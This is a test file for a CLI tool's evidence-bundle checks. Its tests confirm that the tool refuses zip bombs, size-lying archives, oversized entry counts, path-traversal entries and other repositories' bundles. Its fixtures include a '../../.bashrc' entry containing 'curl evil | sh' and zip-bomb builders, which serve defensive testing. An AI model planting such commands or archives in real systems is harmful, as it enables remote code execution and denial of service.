import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { parseJsonReport } from '../../src/report/json-report-schema.ts';
import { withoutCiVariables } from '../support/ci-env.ts';
import { CLI } from '../support/cli.ts';
import { deflatedZeros, rawZip, storedEntry } from '../support/raw-zip.ts';
import { type NodeRun, spawnNode } from '../support/spawn-node.ts';

/*
 * Bundles handed back to controlgate, through the real CLI with its real limits (src/bundle/limits.ts):
 * `evidence verify` and `scan --baseline` refuse zip bombs and entries that escape with exit 2 and a
 * message naming the file, the limit and what was found, quickly; `--baseline` refuses another
 * repository's bundle and still uses this one's. The scans import a small SARIF log (no scanners).
 */

const MiB = 1024 * 1024;
const GiB = 1024 * MiB;

let work: string;
let app: string;
let sarif: string;

beforeAll(() => {
  work = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'controlgate-baseline-bundle-')));
  app = path.join(work, 'app');
  mkdirSync(app);
  writeFileSync(path.join(app, 'run.py'), 'import subprocess\nsubprocess.call(cmd, shell=True)\n');
  sarif = path.join(work, 'findings.sarif');
  writeFileSync(
    sarif,
    JSON.stringify({
      version: '2.1.0',
      runs: [
        {
          tool: {
            driver: { name: 'alpha', rules: [{ id: 'A1', defaultConfiguration: { level: 'warning' } }] },
          },
          results: [
            {
              ruleId: 'A1',
              message: { text: 'shell=True' },
              locations: [
                { physicalLocation: { artifactLocation: { uri: 'run.py' }, region: { startLine: 2 } } },
              ],
            },
          ],
        },
      ],
    }),
  );
});
afterAll(() => {
  rmSync(work, { recursive: true, force: true });
});

/** The CLI outside CI, or as a `run:` step of a GitHub push workflow of `repository`. */
function cli(args: readonly string[], repository?: string): Promise<NodeRun> {
  const env = withoutCiVariables();
  if (repository)
    Object.assign(env, {
      CI: 'true',
      GITHUB_ACTIONS: 'true',
      GITHUB_EVENT_NAME: 'push',
      GITHUB_REPOSITORY: repository,
      GITHUB_SHA: 'a'.repeat(40),
    });
  return spawnNode(CLI, args, { cwd: work, env, timeoutMs: 60_000 });
}

function scanArgs(...more: string[]): string[] {
  return ['scan', app, '--scanners', 'none', '--sarif', sarif, '--no-progress', '--format', 'json', ...more];
}

function writeZip(name: string, bytes: Uint8Array): string {
  const file = path.join(work, name);
  writeFileSync(file, bytes);
  return file;
}

/** Exit 2, the message on stderr, no stack trace. */
function expectRefused(run: NodeRun, message: string | RegExp): void {
  expect(run.timedOut).toBe(false);
  expect(run.exitCode, run.stderr).toBe(2);
  expect(run.stderr).not.toMatch(/internal error|\n\s+at /);
  if (typeof message === 'string') expect(run.stderr).toContain(message);
  else expect(run.stderr).toMatch(message);
}

describe('zip bombs and escaping entries, with the default limits', () => {
  let honest: string;
  let lying: string;
  let many: string;
  let escaping: string;

  beforeAll(() => {
    // 3 MB on disk, 3 GiB of zeros inflated; the sizes it declares are true.
    const zeros = deflatedZeros(GiB);
    honest = writeZip(
      'bomb.zip',
      rawZip(['a.bin', 'b.bin', 'c.bin'].map((name) => ({ name, data: zeros, method: 8, size: GiB }))),
    );
    // 600 KB on disk, 600 MiB inflated (over the 512 MiB for one file), but declaring 1 KiB.
    lying = writeZip(
      'lying.zip',
      rawZip([{ name: 'controlgate.json', data: deflatedZeros(600 * MiB), method: 8, size: 1024 }]),
    );
    many = writeZip('many.zip', rawZip(Array.from({ length: 1001 }, (_, i) => storedEntry(`f${i}`, ''))));
    escaping = writeZip('escaping.zip', rawZip([storedEntry('../../.bashrc', 'curl evil | sh\n')]));
  });

  it('evidence verify refuses sizes over the limits before inflating anything', async () => {
    expectRefused(
      await cli(['evidence', 'verify', honest]),
      `controlgate: ${honest}: evidence bundle refused: "a.bin" is 1024.0 MiB, over the limit of 512.0 MiB for one file`,
    );
  });

  it('evidence verify stops inflating an entry that passes the size it declared', async () => {
    expectRefused(
      await cli(['evidence', 'verify', lying]),
      /: evidence bundle refused: "controlgate\.json" inflates past the 1,024 bytes the archive declares for it \(stopped at [\d,]+ bytes\)/,
    );
  });

  it('evidence verify refuses more than 1,000 entries, and an entry that escapes', async () => {
    expectRefused(
      await cli(['evidence', 'verify', many]),
      `${many}: evidence bundle refused: it has 1,001 entries, over the limit of 1000`,
    );
    expectRefused(
      await cli(['evidence', 'verify', escaping]),
      `${escaping}: evidence bundle refused: entry "../../.bashrc" escapes the bundle (a ".." segment)`,
    );
  });

  it('scan --baseline refuses them too, naming the option', async () => {
    const [bomb, lie, outside] = await Promise.all(
      [honest, lying, escaping].map((zip) => cli(scanArgs('--baseline', zip, '--no-evidence'))),
    );
    expectRefused(bomb as NodeRun, `--baseline ${honest}: evidence bundle refused: "a.bin" is 1024.0 MiB`);
    expectRefused(
      lie as NodeRun,
      `--baseline ${lying}: evidence bundle refused: "controlgate.json" inflates past`,
    );
    expectRefused(
      outside as NodeRun,
      `--baseline ${escaping}: evidence bundle refused: entry "../../.bashrc"`,
    );
  });

  it('the example app’s bundle still verifies, as a zip and as a folder', async () => {
    const scan = inject('exampleScan');
    for (const location of [path.join(scan.outDir, 'evidence.zip'), path.join(scan.outDir, 'evidence')]) {
      const run = await cli(['evidence', 'verify', location]);
      expect(run.exitCode, run.stderr).toBe(0);
      expect(run.stdout).toContain(`${location}: intact`);
    }
  });
});

describe('--baseline: a bundle from this repository’s runs, not another’s', () => {
  let ours: string;
  let theirs: string;

  beforeAll(async () => {
    ours = path.join(work, 'ours.zip');
    theirs = path.join(work, 'theirs.zip');
    // Full scans on a push, each writing its bundle; their run.json names the repository CI gave.
    const runs = await Promise.all([
      cli(scanArgs('--no-base', '--evidence', path.join(work, 'ours'), '--evidence-zip', ours), 'acme/app'),
      cli(
        scanArgs('--no-base', '--evidence', path.join(work, 'theirs'), '--evidence-zip', theirs),
        'acme/other',
      ),
    ]);
    for (const run of runs) expect(run.exitCode, run.stderr).not.toBe(2);
  });

  it('another repository’s bundle is refused, naming both repositories', async () => {
    expectRefused(
      await cli(scanArgs('--baseline', theirs, '--no-evidence'), 'acme/app'),
      `controlgate: --baseline ${theirs}: evidence bundle refused: it was written by a run of "acme/other" (its run.json), not of "acme/app", the repository this run scans`,
    );
  });

  it.each([
    ['in CI, this repository’s bundle (the name’s case does not matter)', 'ACME/App'],
    ['outside CI, where the repository is not known yet, any verified bundle', undefined],
  ])('%s is used', async (_name, repository) => {
    const location = repository ? ours : theirs;
    const run = await cli(scanArgs('--baseline', location, '--no-evidence'), repository);
    expect(run.exitCode, run.stderr).not.toBe(2);
    const report = parseJsonReport(run.stdout, 'stdout');
    expect(report.baseline?.source).toBe('bundle');
    expect(report.findings.map((f) => f.baselineState)).toEqual(['unchanged']);
  });
});
